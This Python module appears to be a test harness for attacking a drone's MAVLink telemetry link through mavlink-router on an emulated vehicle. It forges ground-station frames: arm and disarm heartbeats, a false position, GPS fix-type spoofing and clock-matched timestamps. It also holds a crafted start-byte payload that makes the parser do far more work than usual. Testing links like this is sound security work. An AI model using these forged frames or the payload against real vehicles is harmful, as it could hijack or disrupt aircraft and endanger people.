"""An attacker at the other end of the link to the ground station: answers mavlink-router from the address to which it
sends the telemetry, so what comes from here has the way that a ground station's words have."""

import os
import socket
import threading
import time

os.environ.setdefault("MAVLINK20", "1")
from pymavlink.dialects.v20 import common  # noqa: E402

HOST = "10.0.2.2"  # the measuring machine, as the emulated one sees it
ELSEWHERE_E7 = 100_000_000  # 10 degrees north and east: nobody flies there
ARMED, DISARMED = 0x81, 0x01
# An unknown flag; the payload is full of start bytes. Scanned again from each of them it cost 170 times what an
# ordinary frame costs.
CRAFTED = bytes([0xFD, 255, 2, 0, 0, 255, 190, 0xFD, 0xFD, 0xFD]) + b"\xfd" * 257


class Speaker:
    """Frames as a system's component sends them."""

    def __init__(self, system, component):
        self._link = common.MAVLink(None, srcSystem=system, srcComponent=component)

    def heartbeat(self, base_mode, kind=1, autopilot=3):
        return common.MAVLink_heartbeat_message(kind, autopilot, base_mode, 0, 4, 3).pack(self._link)

    def position(self, boot_ms):
        return common.MAVLink_global_position_int_message(
            boot_ms, ELSEWHERE_E7, ELSEWHERE_E7, 90000, 9000, 100, 100, 0, 0).pack(self._link)

    def start_bytes(self):
        """Of a known message, and right: what is crafted ends at mavlink-router, this comes as far as the daemon."""
        return common.MAVLink_encapsulated_data_message(0xFDFD, [0xFD] * 253).pack(self._link)

    def fix(self, fix_type):
        """Of a receiver."""
        return common.MAVLink_gps_raw_int_message(0, fix_type, 0, 0, 0, 0, 0, 0, 0, 0).pack(self._link)


class Attacker:
    """Keeps where the telemetry comes from, and what the vehicle's clock says."""

    def __init__(self):
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.bind(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        self._peer, self._boot = None, (0, 0.0)
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self):
        reader = common.MAVLink(None)
        reader.robust_parsing = True
        while True:
            try:
                octets, self._peer = self._socket.recvfrom(2048)
            except OSError:
                return  # closed
            for message in reader.parse_buffer(octets) or []:
                if message.get_type() == "GLOBAL_POSITION_INT":
                    self._boot = message.time_boot_ms, time.monotonic()

    @property
    def hears(self):
        """Whether it has the vehicle's telemetry."""
        return self._boot[1] > 0

    def boot_ms(self):
        """The vehicle's clock now: a forged word has to be as new as the real one."""
        boot_ms, at = self._boot
        return boot_ms + round((time.monotonic() - at) * 1000)

    def send(self, *frames):
        for frame in frames:
            self._socket.sendto(frame, self._peer)

    def keep_sending(self, seconds, every_s, make):
        """make() gives the frames of one time."""
        begun = time.monotonic()
        for number in range(round(seconds / every_s)):
            self.send(*make())
            time.sleep(max(0.0, begun + (number + 1) * every_s - time.monotonic()))

    def close(self):
        self._socket.close()
